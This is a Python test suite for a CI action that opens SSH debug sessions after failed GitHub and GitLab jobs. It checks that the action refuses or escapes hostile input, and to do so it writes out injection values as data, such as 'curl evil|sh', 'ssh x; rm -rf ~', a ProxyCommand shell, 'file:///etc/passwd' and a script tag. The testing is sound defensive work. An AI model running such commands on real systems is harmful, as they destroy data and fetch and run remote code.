"""What the action and the component do in every situation, against the stand-in. Each case has its own forge, service, folder and run; cases run side by side.

cases.py [PATTERN]
"""

import concurrent.futures
import inspect
import pathlib
import re
import subprocess
import sys
import tempfile
import time
import traceback

import runner
from service import OPEN, WAITING
from world import ACTION, HOSTILE, IMAGE, KEY, World, failed, only_ours, orders, plain, rendered

# --- GitHub -------------------------------------------------------------------------------------


def opens_and_tells(world, shell):
    result = world.github({"env": "GO_VERSION, NPM_TOKEN NOT_SET GO_VERSION,1BAD,B;AD", "reason": "flaky", "webhook": world.forge.chat_url, "working-directory": "/work space", "allow": "Sftp,AgentForward"}, shell=shell)
    assert result.code == 0
    orders(world, 1)
    order = world.service.orders[0]
    assert order == {"image": IMAGE, "job": "unit-0", "authorizedKeys": [KEY + " octocat"], "allow": ["Sftp", "AgentForward"], "env": [{"name": "GO_VERSION", "value": '1.25 "quoted"'}],
                     "workingDir": "/work space", "ttl": "30m", "reason": "flaky", "network": "Isolated", "commit": "abc123", "pullRequest": "42",
                     "url": f"{world.forge.url}/acme/widget/actions/runs/1001/attempts/1"}, order
    name = next(iter(world.service.sessions))
    command = f"ssh -p 2222 ci.{name}@debug.example.com"
    assert result.outputs == {"open": "true", "name": name, "command": command, "expires-at": "2030-01-02T03:04:05Z"}, result.outputs
    notices = [data for kind, data in result.log.commands if kind == "notice"]
    assert notices == [f"The build failed. Look into it until 2030-01-02T03:04:05Z:\n{command}"], notices
    assert any("NPM_TOKEN was left out" in data for kind, data in result.log.commands if kind == "warning")
    log = result.log.text
    for words in ("waiting: waits for ci/other", "waiting: the image is being pulled", f"│     {command}", "│ host key  [debug.example.com]:2222 ssh-ed25519 AAAA", "│ left out  NPM_TOKEN, DSN"):
        assert words in log, f"{words!r} is missing in\n{log}"
    page = only_ours(result.summary)
    for words in (f"<code class=\"language-console\">{command}\n</code>", "[debug.example.com]:2222 ssh-ed25519", "Until 2030-01-02 03:04:05 UTC you can look into it", "NPM_TOKEN, DSN", f"ci/{name}"):
        assert words in page, f"{words!r} is missing in\n{page}"
    assert world.forge.chat == [{"text": f"acme/widget, build / unit-0 failed: {order['url']}\n{command}\nends 2030-01-02T03:04:05Z"}], world.forge.chat


def opens_in_dash(world):
    opens_and_tells(world, "dash")


def opens_in_bash(world):
    opens_and_tells(world, "bash")


def opens_with_nothing_but_busybox(world):
    opens_and_tells(world, "busybox")


def the_same_job_again_finds_the_same_session(world):
    first, second = world.github(), world.github()
    orders(world, 1)
    assert first.outputs == second.outputs
    third = world.github(strategy={"job-index": 1})
    world.forge.claims["run_attempt"] = "2"
    fourth = world.github()
    orders(world, 3)
    assert len({run.outputs["name"] for run in (first, third, fourth)}) == 3


def no_keys(world):
    world.forge.users = {"octocat": "\n"}
    failed(world.github(), "octocat has no public key", "Settings, SSH and GPG keys")
    world.forge.users = {}
    failed(world.github(), "failed to fetch the public keys of octocat", "answered 404")
    failed(world.github(environment={"GITHUB_ACTOR": "dependabot[bot]"}), "no user with public keys", "input keys")
    assert world.service.requests == []


def keys_that_are_none(world):
    world.forge.faults["keys"] = (200, "<html><body>log in</body></html>\n" * 40, "text/html")
    failed(world.github(), "octocat has no public key")
    for fault in ("endless", 500):
        world.forge.faults["keys"] = fault
        failed(world.github(), "failed to fetch the public keys of octocat")
    world.forge.faults["keys"] = "hang"
    began = time.monotonic()
    failed(world.github({"timeout": "3s"}), "failed to fetch the public keys of octocat")
    assert time.monotonic() - began < 20
    assert world.service.requests == []


def many_keys(world):
    many = [f"ssh-ed25519 AAAA{number:064d} me" for number in range(25)]
    world.forge.users["octocat"] = "\r\n".join(['command="rm -rf /" ' + many[0], "ssh-dss AAAA1234", "ssh-ed25519 $(id)", "# a comment", *many, ""])
    result = world.github()
    assert result.outputs["open"] == "true"
    assert world.service.orders[0]["authorizedKeys"] == [f"ssh-ed25519 AAAA{number:064d} octocat" for number in range(20)]
    assert any("8 of 28 lines" in data for kind, data in result.log.commands if kind == "warning"), result.log.text


def keys_of_the_input(world):
    world.forge.users = {}
    result = world.github({"keys": f"{KEY} a@b\nsk-ssh-ed25519@openssh.com AAAAGnNr\n"})
    assert result.outputs["open"] == "true"
    assert world.service.orders[0]["authorizedKeys"] == [KEY + " octocat", "sk-ssh-ed25519@openssh.com AAAAGnNr octocat"]
    failed(world.github({"keys": "hello"}), "nobody could log in")
    world.service.sessions.clear()
    result = world.github({"principals": "ops, oncall"})
    assert result.outputs["open"] == "true" and world.service.orders[1]["principals"] == ["ops", "oncall"] and "authorizedKeys" not in world.service.orders[1]


def a_private_key_is_refused(world):
    private = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE\n-----END OPENSSH PRIVATE KEY-----"
    result = world.github({"keys": private})
    failed(result, "holds a private key", "replace this key")
    assert world.service.requests == [] and "b3BlbnNz" not in result.summary + result.arguments


def no_permission(world):
    result = world.github(drop=("ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"))
    failed(result, "may not ask for an OIDC token", "id-token: write")
    assert world.service.requests == [] and not world.forge.issued


def no_token(world):
    for fault, words in ((500, "it answered 500"), ((200, "<html>"), "its answer is none"), ((200, {"value": "not a token\n"}), "is no token"), ((200, {"value": "x.y." + "z" * 20000}), "more than 16 KiB")):
        world.forge.faults["token"] = fault
        failed(world.github(), words)
    failed(world.github(environment={"ACTIONS_ID_TOKEN_REQUEST_URL": "http://127.0.0.1:1/token?x=1"}), "the runner gave no OIDC token", "connect")
    assert world.service.requests == []


def nobody_there(world):
    result = world.github({"url": "http://127.0.0.1:1"})
    failed(result, "failed to reach the service at http://127.0.0.1:1", "CURL_CA_BUNDLE")
    assert result.outputs["name"] == ""


def an_address_that_will_not_do(world):
    for url in ("http://sandglass.example.com", "https://user:word@sandglass.example.com", "sandglass.example.com", "https://x/?a=b", "file:///etc/passwd", "https://x\nhttps://y", ""):
        failed(world.github({"url": url}), "not an address of a provisioning service")
    for wait in ("soon", "0", "2h", "-1", "99999"):
        failed(world.github({"timeout": wait}), "timeout is not a time")
    failed(world.github({"image": ""}), "the image of the build is not given")
    assert world.service.requests == [] and not world.forge.issued


def refused(world):
    failed(world.github({"audience": "another"}), "refused (401)", "audience")
    failed(world.github({"image": "docker.io/evil:1"}), "refused (403): image docker.io/evil:1 is not allowed here", "Ask for what the rule allows")
    failed(world.github({"working-directory": "here"}), "refused (422): workingDir must begin with /", "Mend the input")
    failed(world.github({"ttl": "for ever"}), "refused (422): ttl is not a time")
    world.forge.claims |= {"repository": "other/thing", "ref": HOSTILE, "actor": "<b>|x"}
    result = world.github()
    failed(result, "refused (403): no rule matches these claims", "add a rule for these claims")
    only_ours(result.summary)
    for words in ("other/thing", "<b>|x", "<script>alert(2)</script>"):
        assert words in plain(result.summary), result.summary
    assert "│     repository: other/thing" in result.log.text and "│     environment: (not in the token)" in result.log.text, result.log.text
    world.service.first = [lambda handler: handler.problem(413, "the body is larger than 64 KiB")]
    failed(world.github(), "refused (413): the body is larger")
    orders(world, 0)


def busy_then_open(world):
    world.service.first = [lambda handler: handler.problem(429, "too many", retry_after="1"), lambda handler: handler.problem(503, "no keys of the issuer", retry_after="1"), 502]
    assert world.github().outputs["open"] == "true"
    orders(world, 1)
    assert [method for method, _ in world.service.requests].count("POST") == 4


def busy_for_long(world):
    world.service.first = [lambda handler: handler.problem(429, "10 sessions in 10 minutes are enough", retry_after="3600")]
    began = time.monotonic()
    failed(world.github(), "refused (429): 10 sessions in 10 minutes", "wait 3600 s")
    assert time.monotonic() - began < 15
    world.service.first = [lambda handler: handler.problem(503, "the issuer is down", retry_after="1\r\nx: y")] * 30
    failed(world.github({"timeout": "5s"}), "refused (503): the issuer is down")


def it_takes_too_long(world):
    world.service.states = [WAITING]
    result = world.github({"timeout": "4s", "webhook": world.forge.chat_url})
    failed(result, "it did not open within 4 s: waits for ci/other", "kubectl wait --for=condition=Open debugsession/widget-")
    assert result.outputs["name"].startswith("widget-") and "has not opened yet" in plain(result.summary)
    assert len(world.forge.chat) == 1 and "no session: it did not open" in world.forge.chat[0]["text"]
    strict = world.github({"timeout": "4s", "strict": "true"})
    assert strict.code == 1 and strict.outputs["open"] == "false"


def stalled_or_ended(world):
    for state, words in (({"stalled": True, "message": "the image is not allowed: ask for it"}, "the image is not allowed"), ({"ended": True, "phase": "Ended", "message": "it ended at its TTL"}, "ended at its TTL")):
        world.service.sessions.clear()
        world.service.states = [{**WAITING, **state}]
        world.service.requests.clear()
        result = world.github()
        failed(result, words, "kubectl describe debugsession/widget-")
        assert len(world.service.requests) == 1 and "kubectl wait" not in result.log.text and "is not open:" in result.log.text, world.service.requests
    assert world.github({"strict": "true"}).code == 1


def hostile_words(world):
    for extra in ({"message": HOSTILE, "stalled": True, "open": False}, {"strippedEnv": [HOSTILE, "OK"], "message": HOSTILE}, {"message": HOSTILE, "open": False}):
        world.service.extra, world.service.states = extra, [WAITING]
        result = world.github({"timeout": "4s", "webhook": world.forge.chat_url})
        only_ours(result.summary)
        assert "evil.example.com" not in re.sub(r">[^<]*<", "><", rendered(result.summary))
        assert not any(kind in ("error", "set-output") for kind, _ in result.log.commands) and "\x1b" not in result.log.text + result.summary and "\u202e" not in result.log.text
        assert "debug" not in result.log.masks and all("second" not in line or "first" in line for line in result.log.lines)
        assert "<" not in world.forge.chat[-1]["text"]
    world.service.sessions.clear()
    world.service.extra, world.service.states = {"strippedEnv": [HOSTILE, "OK"]}, [OPEN]
    result = world.github()
    assert result.outputs["open"] == "true" and "<script>alert(2)</script>" in plain(result.summary)
    only_ours(result.summary)


def answers_that_are_copied(world):
    """What people would paste into a terminal must look like what it is."""
    world.service.states = [OPEN]
    base = {"host": "h", "port": 1, "user": "u", "knownHosts": []}
    for command in ("ssh x; rm -rf ~", "curl evil|sh", "ssh -o ProxyCommand=sh x@y", "ssh x@y\nrm -rf ~", "ssh `id`@x", None, 7):
        world.service.extra = {"connection": {**base, "command": command}}
        result = world.github({"timeout": "3s"})
        assert result.outputs["open"] == "false" and result.outputs["command"] == "" and "rm -rf" not in result.log.text + result.summary, result.log.text
    world.service.extra = {"connection": {**base, "command": "ssh -p 1 u@h", "knownHosts": ["h ssh-ed25519 AAAA\n::error::x", "```", "* ssh-rsa AAAA<script>", 7, "[h]:1 ssh-rsa AAAA"]}, "expiresAt": "soon`<b>"}
    result = world.github()
    assert result.outputs == {"open": "true", "name": result.outputs["name"], "command": "ssh -p 1 u@h", "expires-at": ""}
    assert re.findall("host key  (.*)", result.log.text) == ["[h]:1 ssh-rsa AAAA"] and "its TTL" in result.summary, result.log.text + result.summary
    only_ours(result.summary)
    for extra in ({"name": "../../x"}, {"name": "a\nb"}, {"namespace": "A"}, {"name": None}, {"name": "x" * 64}):
        world.service.extra = extra
        failed(world.github(), "is not the provisioning service")


def answers_of_something_else(world):
    for answer, words in (((200, "<html>hello</html>", "text/html"), "is not the provisioning service"), ((200, "[]"), "is not the provisioning service"), ("endless", "failed to reach the service"),
                          ((302, "", "text/html", {"location": f"{world.forge.url}/stolen"}), "answered 302"), ((500, "<html>oops"), "answered 500")):
        world.service.first = [answer] * 3
        failed(world.github(), words)
        world.service.first = []
    orders(world, 0)


def the_token_is_renewed(world):
    world.service.looks = [401, lambda handler: handler.problem(429, "slowly", retry_after="1"), 503]
    assert world.github().outputs["open"] == "true"
    assert len(world.forge.issued) == 2
    world.service.sessions.clear()
    world.service.looks = [401, 401]
    failed(world.github(), "refused (401)")
    world.service.sessions.clear()
    world.service.looks = [lambda handler: handler.problem(404, "there is no such session")]
    failed(world.github(), "refused (404): there is no such session")


def the_chat_is_down(world):
    world.service.states = [OPEN]
    for fault in (500, "hang", "endless"):
        world.forge.faults["chat"] = fault
        result = world.github({"webhook": world.forge.chat_url})
        assert result.code == 0 and result.outputs["open"] == "true" and any("the chat was not told" in data for _, data in result.log.commands), result.log.text
    for webhook in (f"http://hooks.example.com/{world.forge.chat_secret}", f'https://x/"\nurl = "file:///etc/passwd{world.forge.chat_secret}', f"ftp://{world.forge.chat_secret}"):
        result = world.github({"webhook": webhook})
        assert result.code == 0 and any("the chat was not told" in data for _, data in result.log.commands), result.log.text


def an_authority_of_ones_own(world):
    """The forge by https: not believed before the job names its authority."""
    with tempfile.TemporaryDirectory(prefix="sandglass-doors-") as folder:
        secure = World(folder, forge="https://127.0.0.1:0", states=[OPEN])
        try:
            failed(secure.github(), "failed to fetch the public keys of octocat", "certificate")
            assert not secure.forge.issued
            result = secure.github(environment={"CURL_CA_BUNDLE": str(secure.forge.folder / "ca.crt")})
            assert result.outputs["open"] == "true", result.log.text
        finally:
            secure.close()


def a_program_is_missing(world):
    failed(world.github(without=("jq",)), "missing in the place where this runs: jq")
    assert world.service.requests == []


# --- GitLab -------------------------------------------------------------------------------------


def gitlab_opens(world, shell):
    result = world.gitlab({"env": "GO_VERSION,NPM_TOKEN"}, shell=shell)
    order = world.service.orders[0]
    assert order == {"image": IMAGE, "job": "unit: [amd64]", "authorizedKeys": [KEY + " octocat"], "allow": ["Sftp"], "env": [{"name": "GO_VERSION", "value": "1.25"}], "ttl": "30m",
                     "network": "Isolated", "commit": "abc123", "url": f"{world.forge.url}/acme/widget/-/jobs/2002"}, order
    name = next(iter(world.service.sessions))
    for words in (f"│     ssh -p 2222 ci.{name}@debug.example.com", "host key  [debug.example.com]:2222", "ends      2030-01-02T03:04:05Z", "NPM_TOKEN was left out", "waiting: the image"):
        assert words in result.log.text, f"{words!r} is missing in\n{result.log.text}"


def gitlab_opens_in_bash(world):
    gitlab_opens(world, "bash")


def gitlab_opens_in_dash(world):
    gitlab_opens(world, "dash")


def gitlab_opens_with_nothing_but_busybox(world):
    gitlab_opens(world, "busybox")


def gitlab_shows_no_secret_when_it_shows_commands(world):
    result = world.gitlab(trace=True, environment={"SANDGLASS_WEBHOOK": world.forge.chat_url})
    assert "│     ssh -p 2222" in result.log.text and len(world.forge.chat) == 1, result.log.text


def gitlab_only_when_the_job_failed(world):
    for status in ("success", "canceled", ""):
        result = world.gitlab(environment={"CI_JOB_STATUS": status})
        assert "Sandglass ──" not in result.log.text
    assert world.service.requests == []


def gitlab_tells_what_is_wrong(world):
    def told(result, words):
        assert all(word in result.log.text for word in words), f"{words} missing in\n{result.log.text}"

    told(world.gitlab({"audience": "another"}), ("refused (401)",))
    told(world.gitlab(environment={"CI_JOB_IMAGE": ""}), ("the image of the build is not given",))
    told(world.gitlab(job={"id_tokens": {}}), ("no ID token", "extend .sandglass-debug"))
    told(world.gitlab(without=("jq",)), ("missing in the place where this runs: jq",))
    told(world.gitlab({"url": "http://127.0.0.1:1"}), ("failed to reach the service",))
    world.gitlab_claims["project_path"] = "other/thing"
    told(world.gitlab(), ("refused (403)", "project_path: other/thing"))
    world.forge.users = {}
    told(world.gitlab(), ("failed to fetch the public keys of octocat",))
    orders(world, 0)


def gitlab_hostile_words(world):
    world.service.states, world.service.extra = [WAITING], {"message": HOSTILE + "\x1b[0Ksection_end:1:x\r\x1b[0K", "stalled": True}
    result = world.gitlab()
    assert "first ::error::second" in result.log.text
    assert re.sub(r"\x1b\[(1;3[23]|33|0)m", "", result.log.text).count("\x1b") == 0 and "\r" not in result.log.text, result.log.text


def the_token_of_a_gitlab_job_ends(world):
    world.service.looks = [401]
    result = world.gitlab()
    assert "the job's ID token is over" in result.log.text, result.log.text


# --- the files ----------------------------------------------------------------------------------


def the_template_holds_its_scripts(world):
    subprocess.run([sys.executable, str(pathlib.Path(__file__).with_name("template.py")), "check"], check=True)


def what_the_action_passes_on(world):
    """Each input reaches the script, and no expression stands in a script, where its value would be run."""
    action = runner.yaml.safe_load((ACTION / "action.yml").read_text())
    step = action["runs"]["steps"][0]
    assert "${{" not in step["run"]
    passed = {re.fullmatch(r"\$\{\{ inputs\.([a-z-]+) \}\}", value)[1] for value in step["env"].values()}
    assert passed == set(action["inputs"])


def run_case(case):
    began = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="sandglass-doors-") as folder:
        world = World(folder)
        try:
            case(world)
            return case.__name__, None, time.monotonic() - began
        except (Exception, SystemExit):
            return case.__name__, traceback.format_exc(), time.monotonic() - began
        finally:
            world.close()


def main():
    pattern = sys.argv[1] if len(sys.argv) > 1 else ""
    cases = [case for name, case in globals().items() if inspect.isfunction(case) and list(inspect.signature(case).parameters) == ["world"] and case.__module__ == "__main__" and pattern in name]
    bad = 0
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        for name, trouble, seconds in pool.map(run_case, cases):
            print(f"{'failed' if trouble else 'ok    '} {name.replace('_', ' ')} ({seconds:.1f} s)", flush=True)
            if trouble:
                bad += 1
                print(trouble, flush=True)
    print(f"doors/github: {len(cases) - bad} of {len(cases)} cases passed")
    return 1 if bad or not cases else 0


if __name__ == "__main__":
    sys.exit(main())
